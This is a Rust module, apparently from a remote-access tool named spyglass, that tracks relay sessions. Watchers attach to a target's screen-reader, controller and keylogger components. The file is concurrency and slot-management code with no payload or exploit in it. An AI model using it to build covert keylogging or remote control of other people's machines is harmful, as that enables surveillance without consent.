//! Live session state for both sides of a pairing.
//!
//! Slot occupancy, watcher counts and stop flags live behind a
//! `parking_lot::Mutex` that is never held across an await. The target's
//! primary writer sits behind its own async mutex so heartbeats and pushed
//! actions never interleave on the wire.

use std::sync::atomic::{AtomicU64, Ordering};
use std::sync::Arc;
use std::time::Instant;

use bytes::Bytes;
use parking_lot::Mutex;
use spyglass_core::{
    AccessCode, Action, Component, ComponentPresence, ControlEvent, FrameError, FrameWriter,
    Reason,
};
use tokio::io::AsyncWrite;
use tokio::sync::{mpsc, Notify};
use tokio_util::sync::CancellationToken;
use tracing::debug;

use crate::feeds::ComponentFeed;

pub type BoxedWrite = Box<dyn AsyncWrite + Send + Unpin>;
pub type PrimaryWriter = FrameWriter<BoxedWrite>;

static SLOT_IDS: AtomicU64 = AtomicU64::new(1);

fn next_slot_id() -> u64 {
    SLOT_IDS.fetch_add(1, Ordering::Relaxed)
}

#[derive(Debug)]
struct BoundSlot {
    id: u64,
    feed: Arc<ComponentFeed>,
    watchers: usize,
}

#[derive(Debug, Default)]
struct TargetSlots {
    components: [Option<BoundSlot>; 3],
}

impl TargetSlots {
    fn all_empty(&self) -> bool {
        self.components.iter().all(Option::is_none)
    }
}

pub struct TargetSession {
    code: AccessCode,
    generation: u64,
    identity: Bytes,
    connected_at: Instant,
    primary: CancellationToken,
    writer: tokio::sync::Mutex<PrimaryWriter>,
    slots: Mutex<TargetSlots>,
    changed: Notify,
}

/// Outcome of looking for a target component to attach a watcher to.
pub enum Attach {
    Attached(Attachment),
    /// Bound, but marked for stop. A replacement needs a fresh START.
    Stopping,
    Absent,
    PrimaryGone,
}

impl TargetSession {
    pub(crate) fn new(
        code: AccessCode,
        generation: u64,
        identity: Bytes,
        writer: PrimaryWriter,
        parent: &CancellationToken,
    ) -> Self {
        Self {
            code,
            generation,
            identity,
            connected_at: Instant::now(),
            primary: parent.child_token(),
            writer: tokio::sync::Mutex::new(writer),
            slots: Mutex::new(TargetSlots::default()),
            changed: Notify::new(),
        }
    }

    pub fn code(&self) -> &AccessCode {
        &self.code
    }

    pub fn generation(&self) -> u64 {
        self.generation
    }

    pub fn identity(&self) -> &Bytes {
        &self.identity
    }

    pub fn connected_at(&self) -> Instant {
        self.connected_at
    }

    /// Cancelled once the primary connection is gone or the server stops.
    pub fn primary_token(&self) -> &CancellationToken {
        &self.primary
    }

    pub fn primary_alive(&self) -> bool {
        !self.primary.is_cancelled()
    }

    pub fn mark_primary_gone(&self) {
        self.primary.cancel();
        self.changed.notify_waiters();
    }

    /// Writes one frame on the primary connection.
    pub async fn send(&self, payload: &[u8]) -> Result<(), FrameError> {
        self.writer.lock().await.send(payload).await
    }

    pub async fn push_action(&self, action: Action) -> Result<(), FrameError> {
        self.send(&[action.as_byte()]).await
    }

    pub async fn shutdown_writer(&self) {
        self.writer.lock().await.shutdown().await;
    }

    /// Binds a target component. Fails with `MainNotConnected` once the
    /// primary is gone and `AlreadyConnected` while the slot is taken.
    pub fn bind_component(
        self: &Arc<Self>,
        component: Component,
    ) -> Result<BoundComponent, Reason> {
        let mut slots = self.slots.lock();
        if !self.primary_alive() {
            return Err(Reason::MainNotConnected);
        }
        let slot = &mut slots.components[component.index()];
        if slot.is_some() {
            return Err(Reason::AlreadyConnected);
        }
        let (feed, inbox) = ComponentFeed::new(component, self.primary.child_token());
        let feed = Arc::new(feed);
        let id = next_slot_id();
        *slot = Some(BoundSlot {
            id,
            feed: feed.clone(),
            watchers: 0,
        });
        drop(slots);
        self.changed.notify_waiters();

        Ok(BoundComponent {
            guard: TargetSlotGuard {
                session: self.clone(),
                component,
                id,
            },
            feed,
            inbox,
        })
    }

    fn unbind(&self, component: Component, id: u64) {
        let mut slots = self.slots.lock();
        let slot = &mut slots.components[component.index()];
        if slot.as_ref().is_some_and(|bound| bound.id == id) {
            if let Some(bound) = slot.take() {
                bound.feed.stop_token().cancel();
            }
        }
        drop(slots);
        self.changed.notify_waiters();
    }

    /// Attaches one watcher to a bound component that is not stopping,
    /// counting it under the slot lock.
    pub fn attach_watcher(self: &Arc<Self>, component: Component) -> Attach {
        let mut slots = self.slots.lock();
        if !self.primary_alive() {
            return Attach::PrimaryGone;
        }
        match &mut slots.components[component.index()] {
            None => Attach::Absent,
            Some(bound) if bound.feed.is_stopping() => Attach::Stopping,
            Some(bound) => {
                bound.watchers += 1;
                Attach::Attached(Attachment {
                    session: self.clone(),
                    feed: bound.feed.clone(),
                    slot_id: bound.id,
                })
            }
        }
    }

    /// Counts one watcher out. Returns true when this was the last watcher,
    /// in which case the component has been marked for stop.
    fn detach_watcher(&self, component: Component, slot_id: u64) -> bool {
        let mut slots = self.slots.lock();
        let Some(bound) = slots.components[component.index()]
            .as_mut()
            .filter(|bound| bound.id == slot_id)
        else {
            return false;
        };
        bound.watchers = bound.watchers.saturating_sub(1);
        if bound.watchers > 0 {
            return false;
        }
        bound.feed.stop_token().cancel();
        true
    }

    pub fn watcher_count(&self, component: Component) -> usize {
        self.slots.lock().components[component.index()]
            .as_ref()
            .map_or(0, |bound| bound.watchers)
    }

    pub fn presence(&self) -> ComponentPresence {
        let slots = self.slots.lock();
        let bound = |component: Component| slots.components[component.index()].is_some();
        ComponentPresence {
            primary: self.primary_alive(),
            screen_reader: bound(Component::ScreenReader),
            controller: bound(Component::Controller),
            keylogger: bound(Component::Keylogger),
        }
    }

    /// Resolves once no component is bound.
    pub async fn components_detached(&self) {
        loop {
            let notified = self.changed.notified();
            if self.slots.lock().all_empty() {
                return;
            }
            notified.await;
        }
    }
}

/// A freshly bound target component.
pub struct BoundComponent {
    pub guard: TargetSlotGuard,
    pub feed: Arc<ComponentFeed>,
    /// Event queue receiver, controllers only.
    pub inbox: Option<mpsc::UnboundedReceiver<ControlEvent>>,
}

/// Unbinds a target component slot on drop.
pub struct TargetSlotGuard {
    session: Arc<TargetSession>,
    component: Component,
    id: u64,
}

impl Drop for TargetSlotGuard {
    fn drop(&mut self) {
        debug!(code = %self.session.code, component = %self.component, "target component unbound");
        self.session.unbind(self.component, self.id);
    }
}

/// One watcher relay's hold on a target component. Dropping it counts the
/// watcher out and, for the last one, marks the component for stop.
pub struct Attachment {
    session: Arc<TargetSession>,
    feed: Arc<ComponentFeed>,
    slot_id: u64,
}

impl Attachment {
    pub fn feed(&self) -> &Arc<ComponentFeed> {
        &self.feed
    }

    pub fn session(&self) -> &Arc<TargetSession> {
        &self.session
    }
}

impl Drop for Attachment {
    fn drop(&mut self) {
        let component = self.feed.component();
        if self.session.detach_watcher(component, self.slot_id) {
            debug!(code = %self.session.code, %component, "last watcher left; component marked for stop");
        }
    }
}

#[derive(Debug)]
struct WatcherState {
    components: [bool; 3],
    /// Current watch; replaced whenever STOP_WATCHING cancels it.
    watch: CancellationToken,
}

pub struct WatcherSession {
    code: AccessCode,
    generation: u64,
    connected_at: Instant,
    primary: CancellationToken,
    state: Mutex<WatcherState>,
    changed: Notify,
}

impl WatcherSession {
    pub(crate) fn new(code: AccessCode, generation: u64, parent: &CancellationToken) -> Self {
        let primary = parent.child_token();
        let watch = primary.child_token();
        Self {
            code,
            generation,
            connected_at: Instant::now(),
            primary,
            state: Mutex::new(WatcherState {
                components: [false; 3],
                watch,
            }),
            changed: Notify::new(),
        }
    }

    pub fn code(&self) -> &AccessCode {
        &self.code
    }

    pub fn generation(&self) -> u64 {
        self.generation
    }

    pub fn connected_at(&self) -> Instant {
        self.connected_at
    }

    pub fn primary_token(&self) -> &CancellationToken {
        &self.primary
    }

    pub fn primary_alive(&self) -> bool {
        !self.primary.is_cancelled()
    }

    pub fn mark_primary_gone(&self) {
        self.primary.cancel();
        self.changed.notify_waiters();
    }

    /// Binds a watcher component and hands back the watch it belongs to.
    pub fn bind_component(self: &Arc<Self>, component: Component) -> Result<WatcherSlotGuard, Reason> {
        let mut state = self.state.lock();
        if !self.primary_alive() {
            return Err(Reason::MainNotConnected);
        }
        let slot = &mut state.components[component.index()];
        if *slot {
            return Err(Reason::AlreadyConnected);
        }
        *slot = true;
        let watch = state.watch.clone();
        drop(state);
        self.changed.notify_waiters();
        Ok(WatcherSlotGuard {
            session: self.clone(),
            component,
            watch,
        })
    }

    fn unbind(&self, component: Component) {
        self.state.lock().components[component.index()] = false;
        self.changed.notify_waiters();
    }

    /// Ends the current watch and starts a fresh one for later components.
    pub fn stop_watching(&self) {
        let mut state = self.state.lock();
        let previous = std::mem::replace(&mut state.watch, self.primary.child_token());
        previous.cancel();
    }

    pub async fn components_detached(&self) {
        loop {
            let notified = self.changed.notified();
            if self.state.lock().components.iter().all(|bound| !bound) {
                return;
            }
            notified.await;
        }
    }
}

/// Unbinds a watcher component slot on drop.
pub struct WatcherSlotGuard {
    session: Arc<WatcherSession>,
    component: Component,
    watch: CancellationToken,
}

impl WatcherSlotGuard {
    /// Cancelled by STOP_WATCHING, watcher primary teardown or shutdown.
    pub fn watch(&self) -> &CancellationToken {
        &self.watch
    }
}

impl Drop for WatcherSlotGuard {
    fn drop(&mut self) {
        debug!(code = %self.session.code, component = %self.component, "watcher component unbound");
        self.session.unbind(self.component);
    }
}
